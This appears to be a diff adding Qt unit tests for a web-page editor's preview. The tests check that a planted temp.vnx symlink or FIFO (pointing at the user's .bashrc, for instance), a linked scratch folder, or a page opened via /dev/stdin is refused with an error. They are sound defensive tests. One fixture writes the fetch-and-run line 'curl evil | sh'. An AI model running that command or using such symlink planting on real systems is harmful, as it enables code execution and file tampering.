@@ -1,11 +1,16 @@
 // The preview follows the document: a refresh a pause after typing, Update Preview, Working
 // offline, showing the preview, Side by side.
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
 #include <QMessageBox>
 #include <QSignalSpy>
 #include <QTest>
 #include <QWebEnginePage>
 
 #include "EditorFixture.h"
+#include "FileDialogAction.h"
 #include "LoopbackServer.h"
 #include "Timer.h"
 #include "Unit4.h"
@@ -181,6 +186,70 @@ TEST_F(PreviewTest, SideBySideSetsBothWindowsBoundsWithoutShowingAHiddenPreview)
   Control<QCheckBox>(Form1, "check3")->click();
   EXPECT_EQ(bounds(*Form1), QList<int>({338, 865, 91, 5}));
   EXPECT_EQ(bounds(*Form4), QList<int>({389, 865, 91, 339}));
+}
+
+// The scratch file is the program's own: a temp.vnx that someone put beside a page (a link to
+// the user's file, to a FIFO or to nothing, or a FIFO) is refused with its name at each refresh
+// and what it leads to stays untouched.
+TEST_F(PreviewTest, AScratchNamePlantedBesideAPageIsNeverWrittenThrough) {
+  const QString victim = Path("home/.bashrc");
+  WriteFileBytes(victim, "# the user's shell");
+  ASSERT_EQ(::mkfifo(QFile::encodeName(Path("home/fifo")).constData(), 0600), 0);
+  const QStringList planted{victim, Path("home/fifo"), Path("home/missing")};
+  for (int i = 0; i <= planted.size(); ++i) {
+    const QString folder = Path(QString("evil%1").arg(i));
+    ASSERT_TRUE(QDir().mkpath(folder));
+    WriteFileBytes(folder + "/index.html", "curl evil | sh\n<p>page");
+    const QString scratch = folder + "/temp.vnx";
+    if (i < planted.size())
+      ASSERT_TRUE(QFile::link(planted[i], scratch));
+    else
+      ASSERT_EQ(::mkfifo(QFile::encodeName(scratch).constData(), 0600), 0);
+    QString message;
+    AnswerErrorBox(&message);
+    Form1->FileOpen1().Accept(folder + "/index.html");
+    ASSERT_TRUE(QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000)) << scratch.toStdString();
+    EXPECT_EQ(message, "Cannot create file " + scratch + ".");
+    EXPECT_FALSE(QFileInfo(scratch).isFile() && !QFileInfo(scratch).isSymLink());
+  }
+  EXPECT_EQ(ReadFileBytes(victim), "# the user's shell");
+  EXPECT_FALSE(QFile::exists(Path("home/missing")));
+}
+
+// The untitled document's scratch folder is the fixed folder itself: a link there to another
+// folder is refused, and nothing is written where it leads.
+TEST_F(PreviewTest, AScratchFolderThatIsALinkIsRefused) {
+  QDir(Path("home")).rmdir("ferrundshared");
+  ASSERT_TRUE(QDir().mkpath(Path("elsewhere")));
+  ASSERT_TRUE(QFile::link(Path("elsewhere"), Path("home/ferrundshared")));
+  QString message;
+  AnswerErrorBox(&message);
+  TypeDocument("<p>where?");
+  ASSERT_TRUE(QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000));
+  EXPECT_EQ(message, "Cannot create file " + UntitledScratch() + ".");
+  EXPECT_TRUE(QDir(Path("elsewhere")).isEmpty(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden));
+}
+
+// A page opened by a name in /dev, such as /dev/stdin, leads to a file on another file system;
+// its scratch file is never put into /dev.
+TEST_F(PreviewTest, APageOpenedThroughDevNeverPutsTheScratchFileIntoDev) {
+  WriteFileBytes(Path("page.htm"), "<p>from standard input");
+  const int page = ::open(QFile::encodeName(Path("page.htm")).constData(), O_RDONLY | O_CLOEXEC);
+  const int savedInput = ::dup(0);
+  ASSERT_TRUE(page >= 0 && savedInput >= 0 && ::dup2(page, 0) == 0);
+  ::close(page);
+  QString message;
+  AnswerErrorBox(&message);
+  Form1->FileOpen1().Accept("/dev/stdin");
+  const bool reported = QTest::qWaitFor([&] { return !message.isEmpty(); }, 10000);
+  ::dup2(savedInput, 0);
+  ::close(savedInput);
+  const bool written = QFile::exists("/dev/temp.vnx");
+  if (written) QFile::remove("/dev/temp.vnx");
+  EXPECT_EQ(Edit1().Text(), "<p>from standard input");
+  ASSERT_TRUE(reported);
+  EXPECT_EQ(message, "Cannot create file /dev/temp.vnx.");
+  EXPECT_FALSE(written);
 }
 
 }  // namespace
